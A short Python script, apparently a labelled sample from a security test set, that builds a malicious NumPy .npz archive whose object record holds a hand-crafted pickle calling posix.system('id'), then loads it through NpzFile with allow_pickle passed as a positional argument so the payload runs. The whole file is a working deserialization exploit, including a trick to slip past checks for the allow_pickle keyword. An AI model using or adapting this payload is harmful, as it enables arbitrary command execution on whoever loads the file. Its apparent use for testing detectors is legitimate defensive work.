# class: equivalent-api | technique: numpy.lib.npyio.NpzFile(fh, False, True): allow_pickle passed as the third positional argument; reading the member unpickles it | effect: unpickles a crafted object array whose pickle calls posix.system('id')
import struct
import zipfile

import numpy as np


def npy_object_record(blob):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = (64 - (10 + len(header) + 1) % 64) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + blob


record = b"cposix\nsystem\n(S'id'\ntR."
with zipfile.ZipFile("bundle.npz", "w") as z:
    z.writestr("payload.npy", npy_object_record(record))

with open("bundle.npz", "rb") as fh:
    archive = np.lib.npyio.NpzFile(fh, False, True)
    print("loaded:", archive["payload"])
